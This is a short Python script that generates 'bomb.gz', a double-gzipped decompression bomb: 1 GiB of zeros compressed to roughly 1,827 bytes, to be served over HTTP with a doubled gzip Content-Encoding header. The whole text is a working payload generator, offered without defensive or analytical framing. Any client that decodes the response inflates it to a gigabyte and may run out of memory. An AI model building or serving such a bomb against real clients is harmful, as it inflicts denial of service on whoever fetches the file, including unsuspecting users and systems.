"""bomb.gz: 1 GiB of zeros, gzip'd twice (1,827 bytes). Served with `Content-Encoding: gzip, gzip`."""
import zlib
def gz(chunks):
    c = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join([*(c.compress(x) for x in chunks), c.flush()])
inner = gz(bytes(1 << 20) for _ in range(1024))
open("bomb.gz", "wb").write(gz([inner]))
